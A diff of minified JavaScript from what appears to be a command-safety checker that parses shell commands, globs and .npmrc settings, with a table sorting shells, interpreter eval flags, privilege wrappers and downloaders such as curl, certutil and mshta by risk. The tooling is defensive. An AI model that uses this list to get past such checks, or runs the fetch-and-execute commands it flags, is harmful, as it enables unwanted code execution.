-l=>typeof l!="string"||s&&l==="[");if(r<0)return;const i=n.parts.map(l=>l.text).join(""),o=uB(e.slice(0,r)),c=uE(e);return{
-text:i,prefix:o,segments:c,...s&&{ambiguity:"bracket"}}}function cE(n){return n==="*"?Sr:n==="?"?iE:n.length>1&&n.startsWith(
-"[")?new RegExp(`^${n}$`):n}function uB(n){return n.filter(e=>typeof e=="string").join("")}function uE(n){const e=[[]];for(const t of n)
-t==="/"?e.push([]):e.at(-1)?.push(t);return e}function Sa(n){return n.every(e=>typeof e=="string")?uB(n):void 0}function lE(n){
-return n.includes(Sr)}const lB=n=>Array.from(n),dE=n=>Array.from(Buffer.from(n).toString("latin1"));function dB(n,e){if(e.
-startsWith(".")&&n[0]!==".")return!1;const t=Ta(n,e,lB);return/^[\x20-\x7e]*$/.test(e)||t===Ta(n,e,dE)?t:void 0}function BE(n,e){
-const t=Array.from(e,s=>s==="*"?Sr:s);return Ta(t,n,lB)}function Ta(n,e,t){const s=n.flatMap(l=>typeof l=="string"?t(l):
-[l]),r=t(e);let i=0,o=-1,c=0;for(let l=0;l<r.length;)if(s[i]===Sr)o=i,c=l,i+=1;else if(fE(s[i],r[l]))i+=1,l+=1;else if(o>=
-0)i=o+1,c+=1,l=c;else return!1;return s.slice(i).every(l=>l===Sr)}function fE(n,e=""){return n instanceof RegExp?n.test(
-e):n===e}const hE=20,pE=4096,BB=64;function mE(n,e,t){const{pattern:s,span:r,position:i}=n,o=dn(s.text),c=yE(s);let l=[];
-if(i==="program")t.add("glob-unclear",r,{pattern:o,reason:"program"});else if(wE(s))t.add("glob-unclear",r,{pattern:o,reason:"\
-outside"});else if(!CE(s,e))if(c)t.add("glob-unclear",r,{pattern:o,reason:c});else if(bE(s))t.add("glob-unclear",r,{pattern:o,
-reason:"flag"});else if(e)l=gE(n,e,t);else if(i==="script"&&s.segments.some(lE))t.add("glob-unclear",r,{pattern:o,reason:"\
+  script-shell shell usage userconfig version versions viewer workspace workspaces yes`.split(/\s+/)),uE=new Set(["ignor\
+e-scripts","node-options"]);function Sa(n,e){const t=typeof e!="object"&&!String(e).includes("${");if(n==="ignore-script\
+s"&&t)return typeof e=="boolean"?"honoured":"decides";if(uE.has(n)&&t)return"honoured";const s=n.toLowerCase().replaceAll(
+"_","-");return cE.has(s)||n.includes("${")?"decides":!aE.has(n)||typeof e=="object"&&!Array.isArray(e)||String(e).includes(
+"${")?"other":"harmless"}async function lE(n,e){return Promise.all(Ti(n,".npmrc").map(({path:t})=>dE(n,t,e)))}async function dE(n,e,t){
+const s=He.posix.dirname(e),r=await Ys({tree:n,directory:s==="."?"":s});if("unread"in r)return BE(n,e,r.unread);const{settings:i,
+file:o=e}=r,c=t.has(e)||t.has(o),l=([d,h])=>{const g=Sa(d,h);return g==="harmless"||g==="honoured"&&!c},B=Object.entries(
+i);return{path:o,text:(0,Yd.stringify)(Object.fromEntries(B.filter(l))),dropped:B.filter(d=>!l(d)).map(([d])=>d)}}function BE(n,e,t){
+const s=Ot(n,e);return s.kind==="inside"&&Kt(s.entry.kind)?{path:s.path,text:"",dropped:[t]}:{path:e,dropped:[t]}}const fE=/^(?:registry|@[^:]+:registry|\/\/.*|always-auth|_auth|_authToken|ca(?:file)?|cert|key|(?:https?-)?proxy|noproxy|strict-ssl)$/;
+async function hE(n,e){return(await lE(n,e)).flatMap(({path:s,dropped:r})=>{const i=r.filter(o=>!fE.test(o));return i.length>
+0?[`${s}: ${i.join(", ")}`]:[]})}function pE(n){return typeof n=="object"&&n!==null&&!Array.isArray(n)}function rn(n){return pE(
+n)?n:{}}function Kn(n,e){const t=Object.hasOwn(n,e)?n[e]:void 0;return typeof t=="string"?t:""}const fB=200;function mE(n){
+if(new RegExp(`^[ \\t?-]{${fB}}`,"m").test(n))return!0;let e=0;for(const t of n.match(/[[\]{}]/g)??[])if(e=Math.max(0,e+
+(/[[{]/.test(t)?1:-1)),e>fB)return!0;return!1}const Sr=Symbol("*"),gE=/^.$/su,CE=/\[\w+\]|./gsu;function yE(n){if(!n.parts.
+some(l=>!l.quoted&&/[*?[]/.test(l.text)))return;const e=n.parts.flatMap(({text:l,quoted:B})=>B?Array.from(l):(l.match(CE)??
+[]).map(wE)),t=n.parts.map(({text:l,quoted:B})=>B?"\0":l).join(""),s=/\[.*\]/s.test(t.replace(/\[\w+\]/g,"]")),r=e.findIndex(
+l=>typeof l!="string"||s&&l==="[");if(r<0)return;const i=n.parts.map(l=>l.text).join(""),o=hB(e.slice(0,r)),c=bE(e);return{
+text:i,prefix:o,segments:c,...s&&{ambiguity:"bracket"}}}function wE(n){return n==="*"?Sr:n==="?"?gE:n.length>1&&n.startsWith(
+"[")?new RegExp(`^${n}$`):n}function hB(n){return n.filter(e=>typeof e=="string").join("")}function bE(n){const e=[[]];for(const t of n)
+t==="/"?e.push([]):e.at(-1)?.push(t);return e}function Ta(n){return n.every(e=>typeof e=="string")?hB(n):void 0}function _E(n){
+return n.includes(Sr)}const pB=n=>Array.from(n),EE=n=>Array.from(Buffer.from(n).toString("latin1"));function mB(n,e){if(e.
+startsWith(".")&&n[0]!==".")return!1;const t=Ia(n,e,pB);return/^[\x20-\x7e]*$/.test(e)||t===Ia(n,e,EE)?t:void 0}function vE(n,e){
+const t=Array.from(e,s=>s==="*"?Sr:s);return Ia(t,n,pB)}function Ia(n,e,t){const s=n.flatMap(l=>typeof l=="string"?t(l):
+[l]),r=t(e);let i=0,o=-1,c=0;for(let l=0;l<r.length;)if(s[i]===Sr)o=i,c=l,i+=1;else if(kE(s[i],r[l]))i+=1,l+=1;else if(o>=
+0)i=o+1,c+=1,l=c;else return!1;return s.slice(i).every(l=>l===Sr)}function kE(n,e=""){return n instanceof RegExp?n.test(
+e):n===e}const DE=20,xE=4096,gB=64;function OE(n,e,t){const{pattern:s,span:r,position:i}=n,o=dn(s.text),c=TE(s);let l=[];
+if(i==="program")t.add("glob-unclear",r,{pattern:o,reason:"program"});else if(IE(s))t.add("glob-unclear",r,{pattern:o,reason:"\
+outside"});else if(!SE(s,e))if(c)t.add("glob-unclear",r,{pattern:o,reason:c});else if($E(s))t.add("glob-unclear",r,{pattern:o,
+reason:"flag"});else if(e)l=AE(n,e,t);else if(i==="script"&&s.segments.some(_E))t.add("glob-unclear",r,{pattern:o,reason:"\
 program"});else{const B={matches:[],count:0,judged:!1};t.add("unquoted-glob",r,{pattern:o,...B})}return l.length===0?[s.
-text]:l}function gE({pattern:n,span:e,position:t},s,r){const i=dn(n.text),o=vE(n,s),c="matches"in o&&!o.matches.every(_E);
+text]:l}function AE({pattern:n,span:e,position:t},s,r){const i=dn(n.text),o=FE(n,s),c="matches"in o&&!o.matches.every(RE);
 if("ambiguity"in o||c){const h="ambiguity"in o?o.ambiguity:"file_name";return r.add("glob-unclear",e,{pattern:i,reason:h}),
 []}const{matches:l}=o;l.some(h=>h.startsWith("-"))&&r.add("glob-unclear",e,{pattern:i,reason:"flag"}),t==="script"&&l.length>
-1&&r.add("glob-unclear",e,{pattern:i,reason:"program"});const B=l.slice(0,hE).map(h=>dn(h)),{length:d}=l;return r.add("u\
-nquoted-glob",e,{pattern:i,matches:B,count:d,judged:!0}),l}function CE({prefix:n,text:e},t){return n.includes("://")&&!t?.
-stat(e.slice(0,e.indexOf("/")))}function yE({text:n,segments:e,ambiguity:t}){return t||(n.length>pE?"too_many":e.some(r=>Sa(
-r)===void 0&&dB(r,".."))?"dot":void 0)}function wE({text:n,segments:e}){return n.startsWith("/")||e.some(t=>Sa(t)==="..")}
-function bE({prefix:n}){return n.startsWith("-")&&!n.includes("=")}function _E(n){const e=new qd;return ys(n,0,!0,e),e.inOrder().
-length===0}const EE=128*1024;function vE(n,e){let t=[{written:"",path:""}];for(const[i,o]of n.segments.entries()){const c=i===
-n.segments.length-1,l=[];for(const B of t){const d=kE(B,o,c,e);if(typeof d=="string")return{ambiguity:d};l.push(...d)}t=
-l}const s=t.map(({written:i})=>Buffer.from(i));return s.reduce((i,o)=>i+o.length+1,0)>EE?{ambiguity:"too_many"}:{matches:s.
-sort(Buffer.compare).map(i=>i.toString())}}function kE(n,e,t,s){const{written:r,path:i}=n,o=Sa(e);if(o==="")return t?[n]:
-"empty_segment";const c=t?"":"/";if(o===".")return[{written:`${r}.${c}`,path:i}];const l=[];for(const B of DE(i,e,o,s)){
-if(B==="letters")return"letters";if(!t&&xE(B,s))return"symlink";!t&&B.kind!=="directory"||l.push({written:`${r}${He.posix.
-basename(B.path)}${c}`,path:B.path})}return l}function*DE(n,e,t,s){if(t!==void 0){const r=s.stat(n===""?t:`${n}/${t}`);r?.
-tracked&&(yield r);return}for(const r of s.list(n)){if(!r.tracked)continue;const i=dB(e,He.posix.basename(r.path));i===void 0?
-yield"letters":i&&(yield r)}}function xE(n,e){if(n.kind!=="symlink")return n.kind==="submodule";const t=Ot(e,n.path);return t.
-kind==="missing"?!1:t.kind!=="inside"||!/^(?:file|executable)$/.test(t.entry.kind)}const OE=/^-\w*c$|^--command$/,Ia=/^-\w*[ep]\w*$|^--(?:eval|print)(?:=|$)|^eval$/,
-AE=/^-\w*[eE]/,SE=/^$/,TE=/^(?:add|dlx)$/,IE=[["shell","sh bash dash ash zsh ksh mksh pdksh yash fish csh tcsh rc elvish\
- nu xonsh",{text:OE}],["shell","pwsh powershell",{text:/^[-/](?:c|command|e|ec|en\w*)$/i}],["shell","cmd",{text:/^\/[ckr]/i}],
+1&&r.add("glob-unclear",e,{pattern:i,reason:"program"});const B=l.slice(0,DE).map(h=>dn(h)),{length:d}=l;return r.add("u\
+nquoted-glob",e,{pattern:i,matches:B,count:d,judged:!0}),l}function SE({prefix:n,text:e},t){return n.includes("://")&&!t?.
+stat(e.slice(0,e.indexOf("/")))}function TE({text:n,segments:e,ambiguity:t}){return t||(n.length>xE?"too_many":e.some(r=>Ta(
+r)===void 0&&mB(r,".."))?"dot":void 0)}function IE({text:n,segments:e}){return n.startsWith("/")||e.some(t=>Ta(t)==="..")}
+function $E({prefix:n}){return n.startsWith("-")&&!n.includes("=")}function RE(n){const e=new eB;return ws(n,0,!0,e),e.inOrder().
+length===0}const NE=128*1024;function FE(n,e){let t=[{written:"",path:""}];for(const[i,o]of n.segments.entries()){const c=i===
+n.segments.length-1,l=[];for(const B of t){const d=PE(B,o,c,e);if(typeof d=="string")return{ambiguity:d};l.push(...d)}t=
+l}const s=t.map(({written:i})=>Buffer.from(i));return s.reduce((i,o)=>i+o.length+1,0)>NE?{ambiguity:"too_many"}:{matches:s.
+sort(Buffer.compare).map(i=>i.toString())}}function PE(n,e,t,s){const{written:r,path:i}=n,o=Ta(e);if(o==="")return t?[n]:
+"empty_segment";const c=t?"":"/";if(o===".")return[{written:`${r}.${c}`,path:i}];const l=[];for(const B of LE(i,e,o,s)){
+if(B==="letters")return"letters";if(!t&&jE(B,s))return"symlink";!t&&B.kind!=="directory"||l.push({written:`${r}${He.posix.
+basename(B.path)}${c}`,path:B.path})}return l}function*LE(n,e,t,s){if(t!==void 0){const r=s.stat(n===""?t:`${n}/${t}`);r?.
+tracked&&(yield r);return}for(const r of s.list(n)){if(!r.tracked)continue;const i=mB(e,He.posix.basename(r.path));i===void 0?
+yield"letters":i&&(yield r)}}function jE(n,e){if(n.kind!=="symlink")return n.kind==="submodule";const t=Ot(e,n.path);return t.
+kind==="missing"?!1:t.kind!=="inside"||!/^(?:file|executable)$/.test(t.entry.kind)}const ME=/^-\w*c$|^--command$/,$a=/^-\w*[ep]\w*$|^--(?:eval|print)(?:=|$)|^eval$/,
+GE=/^-\w*[eE]/,HE=/^$/,zE=/^(?:add|dlx)$/,UE=[["shell","sh bash dash ash zsh ksh mksh pdksh yash fish csh tcsh rc elvish\
+ nu xonsh",{text:ME}],["shell","pwsh powershell",{text:/^[-/](?:c|command|e|ec|en\w*)$/i}],["shell","cmd",{text:/^\/[ckr]/i}],
 ["shell","osascript",{text:/^-e$/}],["shell","eval iex invoke-expression",{text:"words"}],["shell","source ."],["interpr\
-eter","node nodejs deno tsx ts-node jiti esno esmo babel-node",{text:Ia}],["interpreter","vite-node swc-node sucrase-nod\
-e",{text:Ia}],["interpreter","bun",{text:Ia,fetches:/^(?:x|add)$/,runsScripts:!0}],["interpreter","python python2 python\
+eter","node nodejs deno tsx ts-node jiti esno esmo babel-node",{text:$a}],["interpreter","vite-node swc-node sucrase-nod\
+e",{text:$a}],["interpreter","bun",{text:$a,fetches:/^(?:x|add)$/,runsScripts:!0}],["interpreter","python python2 python\
 3 pythonw py pypy pypy3",{text:/^-[A-Za-z]*c/}],["interpreter","perl ruby lua luajit raku rscript julia elixir groovy sc\
-ala",{text:AE}],["interpreter","php",{text:/^-r|^--run$/}],["interpreter","java tclsh jshell ghci"],["wrapper","doas su \
+ala",{text:GE}],["interpreter","php",{text:/^-r|^--run$/}],["interpreter","java tclsh jshell ghci"],["wrapper","doas su \
 sudo",{wraps:"as-user"}],["wrapper","cross-env dotenv env-cmd",{wraps:"as-tool"}],["wrapper","command exec builtin busyb\
 ox toybox time taskset chrt flock prlimit unshare chroot"],["wrapper","strace ltrace gdb xargs parallel watch winpty"],[
 "wrapper","env ionice nice nohup setsid stdbuf timeout xvfb-run"],["downloader","curl wget aria2c axel fetch http https \
 xh httpie iwr irm invoke-webrequest"],["downloader","invoke-restmethod start-bitstransfer bitsadmin certutil mshta"],["b\
 uilder","go",{fetches:/^(?:run|install)$/}],["builder","cargo",{fetches:/^install$/}],["builder","make",{finds:"GNUmakef\
 ile makefile Makefile"}],["builder","just",{finds:"justfile Justfile .justfile"}],["builder","task",{finds:"Taskfile.yml\
- Taskfile.yaml"}],["manager","npm",{fetches:/^(?:exec|x|i|install|add)$/,runsScripts:!0}],["manager","pnpm yarn",{fetches:TE,
-runsScripts:!0}],["manager","npx bunx pnpx uvx",{fetches:SE}],["manager","pip pip3",{fetches:/^install$/}],["manager","g\
+ Taskfile.yaml"}],["manager","npm",{fetches:/^(?:exec|x|i|install|add)$/,runsScripts:!0}],["manager","pnpm yarn",{fetches:zE,
+runsScripts:!0}],["manager","npx bunx pnpx uvx",{fetches:HE}],["manager","pip pip3",{fetches:/^install$/}],["manager","g\
 em",{fetches:/^install$/}],["manager","pipx",{fetches:/^run$/}],["manager","uv",{fetches:/^(?:tool run|pip3? install)$/,
 runsInside:!0}],["manager","poetry conda hatch mise pdm pipenv pixi rye",{runsInside:!0}],["manager","corepack composer"],
 ["system","docker podman",{fetches:/^(?:container )?run$/}],["system","cat ls rm cp mv grep find sed awk git touch echo \
-cd test diff wc head tail"],["system","chmod true false exit vim"]],Gi=new Map(IE.flatMap(([n,e,t])=>e.split(" ").map(s=>[
-s,{name:s,kind:n,...t}]))),$E=[...Gi.keys()];function $a(n){return/^\.{1,2}$/.test(n)?n:n.replace(/^.*[\\/]/s,"").replace(
-/\.(?:exe|cmd|bat|com|ps1)$/i,"").toLowerCase()}function Lt(n){const e=$a(n),t=Gi.get(e);if(t!==void 0)return t;const s=Gi.
-get(e.replace(/[-.]?\d[\d.]*w?$/,""));return s?.kind==="shell"||s?.kind==="interpreter"?s:void 0}function Hi(n){return Lt(
-n)?.kind==="shell"}function fB(n){const e=Lt(n)?.kind;return e==="shell"||e==="interpreter"}function hB(n){if(n===".")return!1;
-const e=Lt(n)?.kind;return e!==void 0&&e!=="system"&&e!=="downloader"}function RE(n){const[e="",...t]=n.trim().split(/\s+/);
-return mB(e)&&t.some(s=>/^-|[./]|^[|&;<>]+$/.test(s))}function pB(n){return/&&|\|\||\$\(|`/.test(n)?!0:n.split(/;\s|\s\|\s/).
-some(e=>{const[t="",...s]=e.trim().split(/\s+/);return s.length>0&&mB(t)})}function mB(n){return Gi.has(n)}const zi=n=>new Set(
-n.split(/\s+/)),NE=zi(": [ cd echo exit false test true"),Ra=zi("! { do elif else if then time until while"),FE=new RegExp(
-`^\\s*(?:(?:${[...Ra].join("|").replace("{","\\{")})\\s+)*$`),PE=zi("fi done case esac for } in [[ ]] function select co\
-proc"),LE=zi(`. alias autoload bg bind break builtin caller chdir command compgen complete compopt continue
+cd test diff wc head tail"],["system","chmod true false exit vim"]],Hi=new Map(UE.flatMap(([n,e,t])=>e.split(" ").map(s=>[
+s,{name:s,kind:n,...t}]))),JE=[...Hi.keys()];function Ra(n){return/^\.{1,2}$/.test(n)?n:n.replace(/^.*[\\/]/s,"").replace(
+/\.(?:exe|cmd|bat|com|ps1)$/i,"").toLowerCase()}function Lt(n){const e=Ra(n),t=Hi.get(e);if(t!==void 0)return t;const s=Hi.
+get(e.replace(/[-.]?\d[\d.]*w?$/,""));return s?.kind==="shell"||s?.kind==="interpreter"?s:void 0}function zi(n){return Lt(
+n)?.kind==="shell"}function CB(n){const e=Lt(n)?.kind;return e==="shell"||e==="interpreter"}function yB(n){if(n===".")return!1;
+const e=Lt(n)?.kind;return e!==void 0&&e!=="system"&&e!=="downloader"}function ZE(n){const[e="",...t]=n.trim().split(/\s+/);
+return bB(e)&&t.some(s=>/^-|[./]|^[|&;<>]+$/.test(s))}function wB(n){return/&&|\|\||\$\(|`/.test(n)?!0:n.split(/;\s|\s\|\s/).
+some(e=>{const[t="",...s]=e.trim().split(/\s+/);return s.length>0&&bB(t)})}function bB(n){return Hi.has(n)}const Ui=n=>new Set(
+n.split(/\s+/)),WE=Ui(": [ cd echo exit false test true"),Na=Ui("! { do elif else if then time until while"),KE=new RegExp(
+`^\\s*(?:(?:${[...Na].join("|").replace("{","\\{")})\\s+)*$`),qE=Ui("fi done case esac for } in [[ ]] function select co\
+proc"),YE=Ui(`. alias autoload bg bind break builtin caller chdir command compgen complete compopt continue
   declare dirs disown enable eval exec export fc fg functions getopts hash help histexpand history integer
   jobs kill let local logout mapfile popd print printf pushd pwd r read readarray readonly return set shift shopt
-  source suspend times trap type typeset ulimit umask unalias unset wait whence`);function gB(n){return NE.has(n)}function jE(n){
-return Ra.has(n)}function ME(n){return FE.test(n)}function CB(n){return Ra.has(n)||PE.has(n)}function yB(n){return CB(n)||
-LE.has(n)}const wB=1e3,bB=/[ \t\n\r'"\\$`;&|<>()]/g;function GE(n,e){return new HE(n,e).split()}class HE{#e;#t;#s=[];#i=[];#r=0;#n=0;#c=0;constructor(e,t){
-this.#e=e,this.#t=t}split(){for(;this.#n<this.#e.length;)this.#u();if(this.#a(),this.#c>wB){const e={start:0,end:this.#e.
-length};this.#t.add("command-too-long",e,{more:`${wB} quoted parts`})}return this.#s}#u(){switch(this.#e.charAt(this.#n)){case"\
+  source suspend times trap type typeset ulimit umask unalias unset wait whence`);function _B(n){return WE.has(n)}function VE(n){
+return Na.has(n)}function QE(n){return KE.test(n)}function EB(n){return Na.has(n)||qE.has(n)}function vB(n){return EB(n)||
+YE.has(n)}const kB=1e3,DB=/[ \t\n\r'"\\$`;&|<>()]/g;function XE(n,e){return new ev(n,e).split()}class ev{#e;#t;#s=[];#i=[];#r=0;#n=0;#c=0;constructor(e,t){
+this.#e=e,this.#t=t}split(){for(;this.#n<this.#e.length;)this.#u();if(this.#a(),this.#c>kB){const e={start:0,end:this.#e.
+length};this.#t.add("command-too-long",e,{more:`${kB} quoted parts`})}return this.#s}#u(){switch(this.#e.charAt(this.#n)){case"\
  ":case"	":this.#a(),this.#n+=1;break;case`
-`:case"\r":this.#a(),ys(this.#e.charAt(this.#n),this.#n,!1,this.#t),this.#n+=1;break;case"'":this.#p();break;case'"':this.#h();
+`:case"\r":this.#a(),ws(this.#e.charAt(this.#n),this.#n,!1,this.#t),this.#n+=1;break;case"'":this.#p();break;case'"':this.#h();
 break;case"\\":this.#m();break;case"$":this.#l(!1);break;case"`":this.#g(!1);break;case";":case"&":case"|":case"<":case"\
->":case"(":case")":this.#a(),this.#n=KE(this.#e,this.#n,this.#t);break;case"#":this.#i.length===0?this.#y():this.#B();break;default:
+>":case"(":case")":this.#a(),this.#n=ov(this.#e,this.#n,this.#t);break;case"#":this.#i.length===0?this.#y():this.#B();break;default:
 this.#B()}}#o(e,t,s,r=s){this.#i.length===0&&(this.#r=r),this.#i.push({text:e,quoted:t,start:s})}#a(){this.#i.length!==0&&
-(this.#s.push({parts:this.#i,start:this.#r,end:this.#n}),this.#i=[])}#B(){const e=this.#n;bB.lastIndex=e+1;const t=bB.exec(
-this.#e)?.index??this.#e.length,s=this.#e.slice(e,t);ys(s,e,!1,this.#t),this.#o(s,!1,e),this.#n=t}#p(){const e=this.#n,t=this.#e.
-indexOf("'",e+1),s=t<0?this.#e.length:t,r=this.#e.slice(e+1,s);ys(r,e+1,!0,this.#t),this.#o(r,!0,e+1,e),this.#d(e,s,"'")}#h(){
+(this.#s.push({parts:this.#i,start:this.#r,end:this.#n}),this.#i=[])}#B(){const e=this.#n;DB.lastIndex=e+1;const t=DB.exec(
+this.#e)?.index??this.#e.length,s=this.#e.slice(e,t);ws(s,e,!1,this.#t),this.#o(s,!1,e),this.#n=t}#p(){const e=this.#n,t=this.#e.
+indexOf("'",e+1),s=t<0?this.#e.length:t,r=this.#e.slice(e+1,s);ws(r,e+1,!0,this.#t),this.#o(r,!0,e+1,e),this.#d(e,s,"'")}#h(){
 const e=this.#n,t=this.#e;let s="",r=e+1;for(this.#n=r;this.#n<t.length&&t.charAt(this.#n)!=='"';){const o=t.charAt(this.#n);
 o==="\\"&&/["$`\\\n]/.test(t.charAt(this.#n+1))?(s+=t.slice(r,this.#n),t.charAt(this.#n+1)===`
 `&&this.#f(),r=this.#n+1,this.#n+=2):o==="$"?this.#l(!0):o==="`"?this.#g(!0):this.#n+=1}const i=Math.min(this.#n,t.length);
-s+=t.slice(r,i),ys(t.slice(e+1,i),e+1,!0,this.#t),this.#o(s,!0,e+1,e),this.#d(e,i,'"')}#d(e,t,s){this.#c+=1,this.#n=Math.
+s+=t.slice(r,i),ws(t.slice(e+1,i),e+1,!0,this.#t),this.#o(s,!0,e+1,e),this.#d(e,i,'"')}#d(e,t,s){this.#c+=1,this.#n=Math.
 min(t+1,this.#e.length),!(t<this.#e.length)&&this.#t.add("unterminated-quote",{start:e,end:t},{quote:s})}#m(){const e=this.#n,
 t=this.#e.charAt(e+1);this.#n+=1,t===""?(this.#t.add("unterminated-quote",{start:e,end:e+1},{quote:"\\"}),this.#o("\\",!0,
 e)):t===`
-`?(this.#n=e,this.#f(),this.#n+=2):t>"\x7F"?this.#o("",!0,e+1,e):(ys(t,e+1,!0,this.#t),this.#o(t,!0,e+1,e),this.#n+=1)}#f(){
-this.#t.add("line-continuation",{start:this.#n,end:this.#n+2},{})}#l(e){const t=ZE(this.#e,this.#n,e);t?this.#C(t.kind,t.
-end,e):(e||this.#o("$",!1,this.#n),this.#n+=1)}#g(e){const t=WE(this.#e,this.#n);this.#C("command-substitution",t,e)}#C(e,t,s){
+`?(this.#n=e,this.#f(),this.#n+=2):t>"\x7F"?this.#o("",!0,e+1,e):(ws(t,e+1,!0,this.#t),this.#o(t,!0,e+1,e),this.#n+=1)}#f(){
+this.#t.add("line-continuation",{start:this.#n,end:this.#n+2},{})}#l(e){const t=rv(this.#e,this.#n,e);t?this.#C(t.kind,t.
+end,e):(e||this.#o("$",!1,this.#n),this.#n+=1)}#g(e){const t=iv(this.#e,this.#n);this.#C("command-substitution",t,e)}#C(e,t,s){
 const r=this.#n,i=this.#e.slice(r,t);this.#t.add(e,{start:r,end:t},{written:dn(i)}),s||this.#o(i,!0,r),this.#n=t}#y(){const e=this.#n,
 t=this.#e.indexOf(`
-`,e);this.#n=t<0?this.#e.length:t;const s=this.#e.slice(e,this.#n);ys(s,e,!1,this.#t),this.#t.add("shell-comment",{start:e,
-end:this.#n},{written:dn(s)})}}const zE=/[A-Za-z_]/,UE=/[A-Za-z0-9_]/,JE=/[0-9@*#?$!-]/;function ZE(n,e,t){const s=n.charAt(
-e+1);if(s==="(")return{kind:n.charAt(e+2)==="("?"arithmetic-expansion":"command-substitution",end:Na(n,e+1,"(",")")};if(s===
-"{")return{kind:"variable-expansion",end:Na(n,e+1,"{","}")};if(s==="[")return{kind:"arithmetic-expansion",end:Na(n,e+1,"\
-[","]")};if(s==="'"||s==='"'){if(t)return;const r=n.indexOf(s,e+2);return{kind:"dollar-quote",end:r<0?n.length:r+1}}if(zE.
-test(s)){let r=e+2;for(;UE.test(n.charAt(r));)r+=1;return{kind:"variable-expansion",end:r}}if(JE.test(s)||s>"\x7F")return{
-kind:"variable-expansion",end:e+2}}function WE(n,e){for(let t=e+1;t<n.length;t+=1){const s=n.charAt(t);if(s==="\\")t+=1;else if(s===
-"`")return t+1}return n.length}function Na(n,e,t,s){let r=0;for(let i=e;i<n.length;i+=1){const o=n.charAt(i);if(o===t)r+=
-1;else if(o===s&&(r-=1,r===0))return i+1}return n.length}function KE(n,e,t){const s=n.charAt(e);if(s==="("||s===")")return t.
+`,e);this.#n=t<0?this.#e.length:t;const s=this.#e.slice(e,this.#n);ws(s,e,!1,this.#t),this.#t.add("shell-comment",{start:e,
+end:this.#n},{written:dn(s)})}}const tv=/[A-Za-z_]/,nv=/[A-Za-z0-9_]/,sv=/[0-9@*#?$!-]/;function rv(n,e,t){const s=n.charAt(
+e+1);if(s==="(")return{kind:n.charAt(e+2)==="("?"arithmetic-expansion":"command-substitution",end:Fa(n,e+1,"(",")")};if(s===
+"{")return{kind:"variable-expansion",end:Fa(n,e+1,"{","}")};if(s==="[")return{kind:"arithmetic-expansion",end:Fa(n,e+1,"\
+[","]")};if(s==="'"||s==='"'){if(t)return;const r=n.indexOf(s,e+2);return{kind:"dollar-quote",end:r<0?n.length:r+1}}if(tv.
+test(s)){let r=e+2;for(;nv.test(n.charAt(r));)r+=1;return{kind:"variable-expansion",end:r}}if(sv.test(s)||s>"\x7F")return{
+kind:"variable-expansion",end:e+2}}function iv(n,e){for(let t=e+1;t<n.length;t+=1){const s=n.charAt(t);if(s==="\\")t+=1;else if(s===
+"`")return t+1}return n.length}function Fa(n,e,t,s){let r=0;for(let i=e;i<n.length;i+=1){const o=n.charAt(i);if(o===t)r+=
+1;else if(o===s&&(r-=1,r===0))return i+1}return n.length}function ov(n,e,t){const s=n.charAt(e);if(s==="("||s===")")return t.
 add("shell-grammar",{start:e,end:e+1},{written:s}),e+1;const r=s==="<"||s===">",i=r?/[<>&|-]/:/[;&|]/;let o=e+1;for(;o-e<
 3&&i.test(n.charAt(o));)o+=1;const c=n.slice(e,o);return t.add(r?"shell-redirection":"shell-operator",{start:e,end:o},{operator:c}),
-o}const _B=128*1024;function qn(n,e){const t=new qd;if(qE(n,t))return{words:[],assignments:[],refused:[],problems:t.inOrder()};
-const s={start:0,end:n.length};k_(n,t),_a(n,t);const r=GE(n,t),{assignments:i,refused:o,count:c}=P_(r,t);for(const B of r.
-slice(0,c))EB(B,t);const l=YE(r.slice(c),e,t);l.length===0&&t.add("empty-command",s,{});for(const{value:B,span:d}of i)_a(
-B,t,d);for(const{text:B,span:d}of l)_a(B,t,d);return{words:l,assignments:i,refused:o,problems:t.inOrder()}}function Fa({
-problems:n}){return n.every(({severity:e})=>e==="warning")}function qE(n,e){if(Buffer.byteLength(n)<=_B)return!1;const t={
-start:0,end:n.length};return e.add("command-too-long",t,{more:`${_B} bytes`}),!0}function YE(n,e,t){const s=[];let r=0;for(const[
-i,o]of n.entries()){const c={start:o.start,end:o.end},l=o.parts.some(g=>g.quoted),B=Li(o);EB(o,t),QE(o,t),XE(o,i===0,t),
-w_(B,o,i===0,t);const d=aE(o);if(d&&(r+=1),d&&r>BB&&t.add("glob-unclear",c,{pattern:dn(B),reason:"too_many"}),!d||r>BB){
-s.push({text:B,span:c,quoted:l});continue}const h=VE(i,s);for(const g of mE({pattern:d,span:c,position:h},e,t))s.push({text:g,
-span:c,quoted:l})}return s}function VE(n,e){return n===0?"program":n===1&&e[0]?.text==="node"?"script":"argument"}function EB(n,e){
+o}const xB=128*1024;function qn(n,e){const t=new eB;if(av(n,t))return{words:[],assignments:[],refused:[],problems:t.inOrder()};
+const s={start:0,end:n.length};P_(n,t),Ea(n,t);const r=XE(n,t),{assignments:i,refused:o,count:c}=q_(r,t);for(const B of r.
+slice(0,c))OB(B,t);const l=cv(r.slice(c),e,t);l.length===0&&t.add("empty-command",s,{});for(const{value:B,span:d}of i)Ea(
+B,t,d);for(const{text:B,span:d}of l)Ea(B,t,d);return{words:l,assignments:i,refused:o,problems:t.inOrder()}}function Pa({
+problems:n}){return n.every(({severity:e})=>e==="warning")}function av(n,e){if(Buffer.byteLength(n)<=xB)return!1;const t={
+start:0,end:n.length};return e.add("command-too-long",t,{more:`${xB} bytes`}),!0}function cv(n,e,t){const s=[];let r=0;for(const[
+i,o]of n.entries()){const c={start:o.start,end:o.end},l=o.parts.some(g=>g.quoted),B=ji(o);OB(o,t),lv(o,t),dv(o,i===0,t),
+I_(B,o,i===0,t);const d=yE(o);if(d&&(r+=1),d&&r>gB&&t.add("glob-unclear",c,{pattern:dn(B),reason:"too_many"}),!d||r>gB){
+s.push({text:B,span:c,quoted:l});continue}const h=uv(i,s);for(const g of OE({pattern:d,span:c,position:h},e,t))s.push({text:g,
+span:c,quoted:l})}return s}function uv(n,e){return n===0?"program":n===1&&e[0]?.text==="node"?"script":"argument"}function OB(n,e){
 for(const[t,s]of n.parts.entries()){if(s.quoted||!s.text.includes("~"))continue;const r=s.text.search(t===0?/(?:^|[=:])~/:
-/[=:]~/);if(r<0)continue;const i=s.start+s.text.indexOf("~",r),o=dn(Li(n));e.add("tilde-expansion",{start:i,end:i+1},{word:o});
-return}}function QE(n,e){let t=-1,s=!1;for(const r of n.parts)if(!(r.quoted||t<0&&!r.text.includes("{")))for(const{0:i,index:o}of r.
+/[=:]~/);if(r<0)continue;const i=s.start+s.text.indexOf("~",r),o=dn(ji(n));e.add("tilde-expansion",{start:i,end:i+1},{word:o});
